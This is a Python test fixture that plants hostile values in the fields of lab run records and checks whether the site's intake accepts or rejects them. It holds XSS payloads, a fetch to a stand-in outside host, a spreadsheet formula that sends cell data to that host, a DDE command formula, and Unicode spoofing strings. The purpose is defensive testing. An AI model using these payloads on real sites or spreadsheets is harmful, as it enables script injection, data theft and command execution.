"""Texts and numbers that a hostile record may hold, and records that hold one of them wherever their schema lets them.

`CALL` is what a payload tries: a dialog, a mark on the page, a request to outside; a browser that ran it shows it.
"""

from __future__ import annotations

import copy
import json
import math
from pathlib import Path
from typing import Any

import shelf

from lab import schema
from lab.errors import LabError
from lab.site import intake

CALL = "alert(1);window.caught=1;fetch('https://outside.invalid/')"
TEXTS = {
    "script": f"</script></title></textarea><script>{CALL}</script>",
    "handler": f'<img src=x onerror="{CALL}"><svg onload=\'{CALL}\'><a href="javascript:{CALL}">look</a>',
    "attribute": f'" autofocus tabindex=1 onfocus="{CALL}" x=\'<i>',
    "style": "<style>*{position:fixed}</style><base href='//outside.invalid/'><meta http-equiv=refresh content=0>",
    "formula": '=HYPERLINK("https://outside.invalid/?"&A1,"look")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reordered": "run\u202e\u2066gnp.exe\u2069\u200f\u202c",
    "hidden": "a\u200bb\u00adc\x00d\ue000e\U000e0041",
    "half": "x\ud800y",
    "stacked": "Z" + "\u0300\u0489" * 400,
    "long": "W" * 5_000,
    "megabyte": "W" * 900_000,
    "beyond": "W" * 1_100_000,
}
NUMBERS = {"nan": math.nan, "inf": math.inf, "-inf": -math.inf, "huge": 10**400}
SOURCE = Path(__file__).resolve().parents[2] / "site_src"


def leaves(kinds: tuple[str, ...]) -> list[str]:
    """Dotted paths of all fields of a record that are of one of these kinds of the schema."""
    tables = {"": (schema.TOP, {}), **{f"{name}.": pair for name, pair in schema.NESTED.items()}}
    return sorted(
        f"{prefix}{name}"
        for prefix, (known, optional) in tables.items()
        for name, (kind, _) in {**known, **optional}.items()
        if kind in kinds and not (kind == "table" and name in schema.NESTED)
    )


FREE = leaves(("text", "texts", "words", "table"))
CLOSED = leaves(("id", "id?", "ids", "sha256", "digests", "time", "verdict", "grade"))
COUNTED = leaves(("number", "number?", "count", "integer", "flag"))


def put(record: dict[str, Any], path: str, value: Any) -> None:
    """Lay a value into a field, in whatever shape the field has: a text, a list, keys and values of a table."""
    folder, _, name = path.rpartition(".")
    table = record[folder] if folder else record
    before = table.get(name)
    if isinstance(before, list):
        table[name] = [value]
    elif isinstance(before, dict) or (before is None and path == "custody.charge"):
        table[name] = {str(value)[:200_000]: value, "inside": value}
    else:
        table[name] = value
    if path == "recipe.params":
        table[name] |= {"list": [value], "deep": {"deeper": {"a": value}}}


class Case:
    """One record of a ledger of its own, with a place to plant something and to hear what the book says of it."""

    def __init__(self, root: Path) -> None:
        self.made = shelf.make(root, runs=shelf.RUNS[:1], clips=0)
        self.id = next(iter(self.made.ids.values()))
        self.path = self.made.ledgers / shelf.NAME / "runs" / f"{self.id}.json"
        self.clean = json.loads(self.path.read_text(encoding="utf-8"))
        self.clean["verdict"] = "rejected"  # of the promoted, the axis is looked at too

    def record(self) -> dict[str, Any]:
        """A copy of the record as it was, to be spoiled."""
        return copy.deepcopy(self.clean)

    def read(self, record: dict[str, Any]) -> tuple[Any, str]:
        """(the entry that would be published, ""), or (None, why it is refused)."""
        self.path.write_text(json.dumps(record), encoding="utf-8")
        try:
            return next(one for one in intake.load(SOURCE, self.made.ledgers).main.entries if one.id == self.id), ""
        except LabError as error:
            return None, str(error)


def spoil(made: shelf.Made, identifier: str, value: Any, paths: list[str]) -> list[str]:
    """Put a value into all fields of a recorded run in which the book takes it; these fields, by their paths."""
    case = Case.__new__(Case)
    case.made, case.id = made, identifier
    case.path = made.ledgers / shelf.NAME / "runs" / f"{identifier}.json"
    record, taken = json.loads(case.path.read_text(encoding="utf-8")), []
    for path in paths:
        trial = copy.deepcopy(record)
        put(trial, path, value)
        if case.read(trial)[0] is not None:
            record, taken = trial, [*taken, path]
    case.read(record)
    return taken
